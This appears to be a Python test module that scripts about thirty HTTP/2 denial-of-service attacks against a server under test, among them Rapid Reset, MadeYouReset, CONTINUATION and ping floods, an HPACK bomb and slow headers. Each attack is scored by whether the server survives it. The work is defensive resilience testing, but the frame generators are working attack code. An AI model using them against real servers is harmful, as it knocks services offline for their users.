"""Attacks on HTTP/2. Each is what one connection sends, piece by piece, for as long as it is asked for more; when the server has ended the
connection, the attacker makes the next.

An attack is survived when the server cuts every connection within 5 s, or is not bothered: no more than 64 MiB above what it had, no more
than a tenth of a processor once the attacker is silent. Where only cutting will do, `must_cut` says so. In either case no call of a good
client fails meanwhile, and 99 of 100 are answered within 100 ms.
"""

import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from server import World
from wire import EXPORT, HEALTH, IMPORT, PREFACE, REFLECTION, WATCH, Wire, about, message

LARGE = about(World.large_user)
FRAME = 16 * 1024  # the largest that anybody may send who was not allowed more
BATCH = 100
# The head of a POST without any table: what is added to it is the attack.
HEAD = b"\x83\x86\x84\x01\x01x"

Pieces = Iterator[bytes]


@dataclass
class Attack:
    """What is sent, over how many connections at once, at which pace."""

    pieces: Callable[[Wire], Pieces]
    connections: int = 2
    pace: float = 0
    must_cut: bool = False

    @property
    def name(self) -> str:
        """As it stands in the table."""
        return "HTTP/2: " + self.pieces.__name__.replace("_", " ")

    @property
    def docstring(self) -> str:
        """What it does."""
        return self.pieces.__doc__ or ""


ATTACKS: list[Attack] = []


def attack(connections: int = 2, pace: float = 0, must_cut: bool = False) -> Callable[[Callable[[Wire], Pieces]], None]:
    """Enters an attack into the list."""
    return lambda pieces: ATTACKS.append(Attack(pieces, connections, pace, must_cut))


def again_and_again(wire: Wire, piece: Callable[[], bytes]) -> Pieces:
    """Begins a connection, and repeats a piece, many at once."""
    yield wire.start_well()
    while True:
        yield b"".join(piece() for _ in range(BATCH))


def resets_after(wire: Wire, mistake: Callable[[int], bytes]) -> Pieces:
    """Begins exports that wait for their window, and has the server reset each by a mistake: MadeYouReset, CVE-2025-8671."""
    yield wire.start(INITIAL_WINDOW_SIZE=0)
    while True:
        streams = [wire.next_stream() for _ in range(BATCH // 5)]
        yield b"".join(wire.call(stream, EXPORT, LARGE) + mistake(stream) for stream in streams)


@attack()
def rapid_reset(wire: Wire) -> Pieces:
    """CVE-2023-44487: begins exports and resets each at once. Survived when cut, or when nothing of them stays."""

    def begun_and_reset() -> bytes:
        stream = wire.next_stream()
        return wire.call(stream, EXPORT, LARGE) + RstStreamFrame(stream, error_code=8).serialize()

    return again_and_again(wire, begun_and_reset)


@attack()
def made_you_reset_by_a_window_of_nothing(wire: Wire) -> Pieces:
    """A WINDOW_UPDATE of 0 is an error of the stream. Survived when cut after a number of them."""
    return resets_after(wire, lambda stream: _frame(8, 0, stream, bytes(4)))


@attack()
def made_you_reset_by_too_large_a_window(wire: Wire) -> Pieces:
    """WINDOW_UPDATEs that add up to more than 2^31-1 are an error of the stream. Survived when cut after a number of them."""
    return resets_after(wire, lambda stream: 2 * WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize())


@attack()
def made_you_reset_by_data_after_the_end(wire: Wire) -> Pieces:
    """DATA on a stream that its sender has ended. Survived when cut after a number of them."""
    return resets_after(wire, lambda stream: DataFrame(stream, b"more").serialize())


@attack()
def made_you_reset_by_headers_after_the_end(wire: Wire) -> Pieces:
    """HEADERS on a stream that its sender has ended. Survived when cut after a number of them."""
    return resets_after(wire, lambda stream: wire.head(stream, EXPORT))


@attack()
def made_you_reset_by_a_stream_that_depends_on_itself(wire: Wire) -> Pieces:
    """PRIORITY of a stream that depends on itself. Survived when cut, or when ignored, as HTTP/2 has it since RFC 9113."""
    return resets_after(wire, lambda stream: _frame(2, 0, stream, stream.to_bytes(4, "big") + b"\x10"))


@attack()
def continuation_flood(wire: Wire) -> Pieces:
    """CVE-2024-27316: HEADERS that never end, by CONTINUATIONs that are full, or that hold a byte. Survived when cut."""
    yield wire.start_well()
    stream = wire.next_stream()
    yield HeadersFrame(stream, HEAD).serialize()
    # A field of its own: literal, never indexed, name and value of one byte each.
    block = b"\x10\x01x\x01y" * (FRAME // 5) if wire.number % 2 else b"\x82"
    while True:
        yield BATCH // 10 * ContinuationFrame(stream, block).serialize()


@attack()
def ping_flood(wire: Wire) -> Pieces:
    """CVE-2019-9512: PINGs without end, and every second connection reads no answer. Survived when answers do not pile up."""
    wire.reads = wire.number % 2 == 0
    return again_and_again(wire, PingFrame(0, b"12345678").serialize)


@attack()
def settings_flood(wire: Wire) -> Pieces:
    """CVE-2019-9515: SETTINGS without end, and every second connection reads no answer. Survived when answers do not pile up."""
    wire.reads = wire.number % 2 == 0
    return again_and_again(wire, SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize)


@attack(connections=32, pace=0.1)
def half_open_streams(wire: Wire) -> Pieces:
    """Imports that announce a message of 8 MiB, send 1 KiB of it and no more, in 32 × 1,000 streams. Survived when streams are refused."""
    beginning = b"\0" + (8 << 20).to_bytes(4, "big") + bytes(1024)
    yield wire.start()
    for _ in range(10):
        streams = [wire.next_stream() for _ in range(100)]
        yield b"".join(wire.head(stream, IMPORT) + DataFrame(stream, beginning).serialize() for stream in streams)


@attack(connections=32, pace=0.1)
def half_open_streams_of_strangers(wire: Wire) -> Pieces:
    """The same without a credential. Survived when nothing is kept of them."""
    yield wire.start()
    for _ in range(10):
        yield b"".join(wire.head(wire.next_stream(), IMPORT, credentials=False) for _ in range(100))


@attack(connections=8, pace=0.1)
def nearly_whole_imports(wire: Wire) -> Pieces:
    """Imports that announce 60 KiB and send all but a byte of it, in 8 × 100 streams. Survived when few are let in, or little is kept."""
    yield wire.start()
    for _ in range(20):
        yield b"".join(_all_but_a_byte(wire, IMPORT, 60 * 1024) for _ in range(5))


@attack(connections=32, pace=0.1)
def nearly_whole_health_checks_of_strangers(wire: Wire) -> Pieces:
    """Health checks without a credential that lack the last byte of 4 KiB, or of 60 KiB, in 32 × 100 streams. Survived when such calls are
    few, or small, or cut.
    """
    yield wire.start()
    length = (4 if wire.number % 2 else 60) * 1024
    for _ in range(20):
        yield b"".join(_all_but_a_byte(wire, HEALTH, length, credentials=False) for _ in range(5))


@attack(connections=64, pace=0.1)
def health_watches_of_strangers(wire: Wire) -> Pieces:
    """Calls that watch health, in 64 × 100 streams. Survived when they are few, or small."""
    yield wire.start()
    for _ in range(10):
        yield b"".join(wire.call(wire.next_stream(), WATCH, message(), credentials=False) for _ in range(10))


@attack(connections=32, pace=0.1)
def unread_reflection_of_strangers(wire: Wire) -> Pieces:
    """Reflection that is asked for a file of the contract 100 times a stream, in 32 × 100 streams whose windows stay at 0. Survived when
    answers do not pile up.
    """
    yield wire.start(INITIAL_WINDOW_SIZE=0)
    symbol = b"userdata.v1.UserDataService"
    questions = 100 * message(b"\x22" + len(symbol).to_bytes(1, "big") + symbol)
    for _ in range(10):
        yield b"".join(wire.call(wire.next_stream(), REFLECTION, questions, credentials=False) for _ in range(10))


@attack(connections=32, pace=0.1)
def reflection_of_strangers_past_its_deadline(wire: Wire) -> Pieces:
    """Reflection whose deadline is a millisecond and whose request lacks the last byte of 4 KiB, in 32 × 100 streams, again and again.
    Survived when what goes on behind an answer is bounded too.
    """
    yield wire.start()
    beginning = b"\0" + (4096).to_bytes(4, "big") + bytes(4095)
    for _ in range(40):
        streams = [wire.next_stream() for _ in range(25)]
        heads = (wire.head(stream, REFLECTION, credentials=False, more=[("grpc-timeout", "1m")]) for stream in streams)
        yield b"".join(head + DataFrame(stream, beginning).serialize() for head, stream in zip(heads, streams, strict=True))


@attack(connections=100, pace=0.1)
def refusals_that_are_late(wire: Wire) -> Pieces:
    """Exports without a credential, in 100 × 100 streams, whose refusals would come 5 s late. Survived when only so many wait."""
    yield wire.start()
    for _ in range(20):
        yield b"".join(wire.call(wire.next_stream(), EXPORT, about("anna"), credentials=False) for _ in range(100))


@attack(connections=8, pace=0.1)
def window_that_never_opens(wire: Wire) -> Pieces:
    """100 exports of a large user on each of 8 connections, whose windows stay at 0. Survived when few of them read ahead."""
    yield wire.start(INITIAL_WINDOW_SIZE=0)
    for _ in range(10):
        yield b"".join(wire.call(wire.next_stream(), EXPORT, LARGE) for _ in range(10))


@attack(connections=2)
def window_of_a_byte(wire: Wire) -> Pieces:
    """CVE-2019-9511: 100 exports whose windows open by a byte at a time. Survived when a byte costs little."""
    yield wire.start(INITIAL_WINDOW_SIZE=1)
    streams = [wire.next_stream() for _ in range(100)]
    yield b"".join(wire.call(stream, EXPORT, LARGE) for stream in streams)
    while True:
        yield b"".join(WindowUpdateFrame(stream, window_increment=1).serialize() for stream in streams)


@attack()
def header_list_too_large(wire: Wire) -> Pieces:
    """Heads of 100 KB, whole. Survived when each is refused, and none kept."""
    yield wire.start_well()
    block = b"\x10\x01x\x7f\xf1\x7d" + 16_240 * b"y"  # a value of 16,240 bytes, not indexed
    while True:
        stream = wire.next_stream()
        yield b"".join(
            [
                HeadersFrame(stream, HEAD).serialize(),
                *(ContinuationFrame(stream, block).serialize() for _ in range(5)),
                ContinuationFrame(stream, block, flags=["END_HEADERS"]).serialize(),
            ]
        )


@attack()
def hpack_bomb(wire: Wire) -> Pieces:
    """A field of 4 KB entered into the table once, and named 16,000 times in a head: 64 MB. Survived when it is not unpacked."""
    yield wire.start_well()
    entered = HEAD + b"\x40\x01x\x7f\x81\x1e" + 3_968 * b"y"
    yield HeadersFrame(wire.next_stream(), entered, flags=["END_HEADERS", "END_STREAM"]).serialize()
    while True:
        yield HeadersFrame(wire.next_stream(), HEAD + 16_000 * b"\xbe", flags=["END_HEADERS", "END_STREAM"]).serialize()


@attack(pace=0.01)
def too_many_streams(wire: Wire) -> Pieces:
    """20,000 exports on a connection, none of them read. Survived when all but the allowed number are refused."""
    yield wire.start(INITIAL_WINDOW_SIZE=0)
    for _ in range(200):
        yield b"".join(wire.call(wire.next_stream(), EXPORT, LARGE) for _ in range(100))


@attack(must_cut=True)
def huge_frames(wire: Wire) -> Pieces:
    """A frame of 16 MiB. Survived when cut at its head: nobody allowed more than 16 KiB."""
    yield wire.start() + wire.head(1, IMPORT) + (2**24 - 1).to_bytes(3, "big") + b"\0\0" + (1).to_bytes(4, "big")
    for _ in range(256):
        yield bytes(1 << 16)


@attack()
def empty_data_flood(wire: Wire) -> Pieces:
    """CVE-2019-9518: frames of DATA that hold nothing, in an import that never ends. Survived when they cost little."""
    yield wire.start() + wire.head(1, IMPORT)
    while True:
        yield 10 * BATCH * DataFrame(1, b"").serialize()


@attack(connections=64, pace=0.1, must_cut=True)
def silent_connections(wire: Wire) -> Pieces:
    """Nothing at all, the preface byte by byte, or the preface and then nothing. Survived when cut: a call must come in time."""
    match wire.number % 3:
        case 0:
            yield b""
        case 1:
            yield from (bytes([byte]) for byte in PREFACE)
        case _:
            yield wire.start()


@attack(connections=3, pace=0.05, must_cut=True)
def garbage_for_a_preface(wire: Wire) -> Pieces:
    """A TLS hello, HTTP/1.1, or random bytes. Survived when cut at once."""
    tls = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(506)
    yield [tls, b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\r\n", os.urandom(64)][wire.number % 3]


@attack(connections=64, pace=0.05, must_cut=True)
def slow_headers(wire: Wire) -> Pieces:
    """The first call's HEADERS byte by byte, twenty a second. Survived when cut: a call must come in time."""
    yield wire.start()
    yield from (bytes([byte]) for byte in wire.head(1, HEALTH) + DataFrame(1, message() + bytes(1000)).serialize())


@attack()
def priority_flood(wire: Wire) -> Pieces:
    """CVE-2019-9513: PRIORITYs that shuffle streams which do not exist. Survived when nothing is kept of them."""
    return again_and_again(wire, lambda: PriorityFrame(wire.next_stream(), depends_on=0, stream_weight=7).serialize())


@attack()
def goaway_flood(wire: Wire) -> Pieces:
    """GOAWAYs with 8 KiB of explanation, and frames of kinds that do not exist. Survived when nothing is kept of them."""
    return again_and_again(wire, lambda: GoAwayFrame(0, additional_data=bytes(8192)).serialize() + _frame(0x77, 0xFF, 0, bytes(99)))


def _all_but_a_byte(wire: Wire, path: str, length: int, credentials: bool = True) -> bytes:
    """A call whose message lacks its last byte. With less than 64 KiB it fits into the window that a stream has from the start."""
    stream, body = wire.next_stream(), b"\0" + length.to_bytes(4, "big") + bytes(length - 1)
    data = [DataFrame(stream, body[at : at + FRAME]).serialize() for at in range(0, len(body), FRAME)]
    return wire.head(stream, path, credentials=credentials) + b"".join(data)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame that hyperframe would not make."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
